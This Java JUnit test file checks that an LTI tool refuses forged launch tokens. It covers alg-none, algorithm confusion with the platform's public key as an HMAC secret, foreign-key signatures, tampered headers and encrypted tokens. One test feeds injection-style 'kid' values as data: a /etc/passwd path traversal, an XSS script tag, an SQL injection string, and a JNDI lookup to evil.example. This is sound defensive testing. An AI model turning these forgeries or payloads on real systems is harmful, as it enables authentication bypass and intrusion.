package org.kith.lti;

import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.EncryptionMethod;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWEHeader;
import com.nimbusds.jose.JWEObject;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSAEncrypter;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import java.nio.charset.StandardCharsets;
import java.text.ParseException;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.kith.lti.testing.PublishedKeys;
import org.kith.lti.testing.SignedLaunch;
import org.kith.lti.testing.ToolUnderTest;

/** Tokens made to be believed without the platform having signed them (Security Framework 1.0, 5.1.2 and 5.1.3). */
class TokenAttacksTest {
    private static final ToolUnderTest TOOL = new ToolUnderTest();
    private static final ToolKey ATTACKERS = ToolKey.generate(Instant.EPOCH);

    private final SignedLaunch valid = SignedLaunch.canvasTeacher();

    @AfterAll
    static void close() {
        TOOL.close();
    }

    @Test
    void refusesAnUnsignedToken() {
        String token = valid.withHeader("alg", "none").signingInput() + ".";

        LaunchProblem problem = TOOL.refuses(valid, token);

        assertThat(problem).isEqualTo(LaunchProblem.TOKEN_UNSIGNED);
    }

    @ParameterizedTest
    @ValueSource(strings = {"None", "NONE", "rs256", "HS256", "RS384", "RS512", "PS256", "ES256", ""})
    void refusesEveryOtherAlgorithm(String algorithm) {
        SignedLaunch launch = valid.withHeader("alg", algorithm);

        LaunchProblem problem = TOOL.refuses(launch);

        assertThat(problem).isEqualTo(LaunchProblem.ALGORITHM_REFUSED);
    }

    @Test
    void refusesATokenWithoutAlgorithm() {
        SignedLaunch launch = valid.withoutHeader("alg");

        LaunchProblem problem = TOOL.refuses(launch);

        assertThat(problem).isEqualTo(LaunchProblem.TOKEN_UNSIGNED);
    }

    @Test
    void refusesThePlatformsPublicKeyUsedAsAPassword() throws JOSEException {
        String input = valid.withHeader("alg", "HS256").signingInput();
        MACSigner mac = new MACSigner(platformKey().toRSAPublicKey().getEncoded());

        LaunchProblem problem =
                TOOL.refuses(valid, input + "." + mac.sign(new JWSHeader(JWSAlgorithm.HS256), ascii(input)));

        assertThat(problem).isEqualTo(LaunchProblem.ALGORITHM_REFUSED);
    }

    @Test
    void refusesAnEllipticCurveSignature() throws JOSEException {
        String input = valid.withHeader("alg", "ES256").signingInput();
        ECDSASigner signer = new ECDSASigner(new ECKeyGenerator(Curve.P_256).generate());

        LaunchProblem problem =
                TOOL.refuses(valid, input + "." + signer.sign(new JWSHeader(JWSAlgorithm.ES256), ascii(input)));

        assertThat(problem).isEqualTo(LaunchProblem.ALGORITHM_REFUSED);
    }

    @Test
    void refusesALongerHashUnderTheRightAlgorithmsName() throws JOSEException {
        String input = valid.signingInput();
        RSASSASigner signer = new RSASSASigner(platformKey());

        LaunchProblem problem =
                TOOL.refuses(valid, input + "." + signer.sign(new JWSHeader(JWSAlgorithm.RS384), ascii(input)));

        assertThat(problem).isEqualTo(LaunchProblem.SIGNATURE_WRONG);
    }

    @Test
    void refusesAnEditedPayload() {
        String token = valid.token();
        String signature = token.substring(token.lastIndexOf('.'));

        LaunchProblem problem = TOOL.refuses(valid, valid.with("sub", "1").signingInput() + signature);

        assertThat(problem).isEqualTo(LaunchProblem.SIGNATURE_WRONG);
    }

    @Test
    void refusesAnEditedHeader() {
        String token = valid.token();
        String signature = token.substring(token.lastIndexOf('.'));

        LaunchProblem problem = TOOL.refuses(valid, valid.withHeader("cty", "x").signingInput() + signature);

        assertThat(problem).isEqualTo(LaunchProblem.SIGNATURE_WRONG);
    }

    @Test
    void refusesAnotherKeysSignatureUnderThePlatformsKeyName() {
        SignedLaunch launch = valid.signedBy(ATTACKERS).withHeader("kid", SignedLaunch.PLATFORM_KEY.kid());

        LaunchProblem problem = TOOL.refuses(launch);

        assertThat(problem).isEqualTo(LaunchProblem.SIGNATURE_WRONG);
    }

    @Test
    void refusesAKeyThePlatformDoesNotPublish() {
        SignedLaunch launch = valid.signedBy(ATTACKERS);

        LaunchProblem problem = TOOL.refuses(launch);

        assertThat(problem).isEqualTo(LaunchProblem.UNKNOWN_KEY);
    }

    @Test
    void refusesAKeyThatAnotherPlatformPublishes() {
        try (PublishedKeys elsewhere = PublishedKeys.of(ATTACKERS)) {
            PlatformKeys keys = new PlatformKeys();
            SignedLaunch launch = valid.signedBy(ATTACKERS);
            keys.find(launch.platform(elsewhere.address()), ATTACKERS.kid(), launch.arrival());

            LaunchProblem problem = TOOL.refuses(launch);

            assertThat(problem).isEqualTo(LaunchProblem.UNKNOWN_KEY);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../etc/passwd",
                "https://evil.example/key",
                "x' OR '1'='1",
                "<script>alert(1)</script>",
                "${jndi:ldap://evil.example}"
            })
    void takesAnyKeyNameForAName(String name) {
        SignedLaunch launch = valid.withHeader("kid", name);

        LaunchProblem problem = TOOL.refuses(launch);

        assertThat(problem).isEqualTo(LaunchProblem.UNKNOWN_KEY);
    }

    @ParameterizedTest
    @ValueSource(strings = {"jku", "x5u", "x5c", "jwk", "crit"})
    void refusesAHeaderThatBringsItsOwnKeyOrRules(String name) {
        SignedLaunch launch = valid.withHeader(name, List.of("exp"));

        LaunchProblem problem = TOOL.refuses(launch);

        assertThat(problem).isEqualTo(LaunchProblem.HEADER_REFUSED);
    }

    @Test
    void refusesAnUnwelcomeHeaderEvenWhenItIsNull() {
        SignedLaunch launch = valid.withHeader("crit", null);

        LaunchProblem problem = TOOL.refuses(launch);

        assertThat(problem).isEqualTo(LaunchProblem.HEADER_REFUSED);
    }

    @Test
    void refusesATokenOfAnotherType() {
        SignedLaunch launch = valid.withHeader("typ", "at+jwt");

        LaunchProblem problem = TOOL.refuses(launch);

        assertThat(problem).isEqualTo(LaunchProblem.HEADER_REFUSED);
    }

    @Test
    void acceptsATokenWithoutType() {
        SignedLaunch launch = valid.withoutHeader("typ");

        Launch accepted = TOOL.accepts(launch);

        assertThat(accepted.subject()).isNotEmpty();
    }

    @Test
    void refusesAnEncryptedToken() throws JOSEException {
        JWEObject encrypted = new JWEObject(
                new JWEHeader(JWEAlgorithm.RSA_OAEP_256, EncryptionMethod.A128GCM), new Payload(valid.token()));
        encrypted.encrypt(new RSAEncrypter(platformKey().toRSAPublicKey()));

        LaunchProblem problem = TOOL.refuses(valid, encrypted.serialize());

        assertThat(problem).isEqualTo(LaunchProblem.TOKEN_ENCRYPTED);
    }

    @Test
    void refusesATokenWhoseSignatureWasCutOff() {
        LaunchProblem problem = TOOL.refuses(valid, valid.signingInput() + ".");

        assertThat(problem).isEqualTo(LaunchProblem.SIGNATURE_WRONG);
    }

    private static RSAKey platformKey() {
        try {
            return RSAKey.parse(SignedLaunch.PLATFORM_KEY.privateJwk());
        } catch (ParseException broken) {
            throw new IllegalStateException(broken);
        }
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }
}
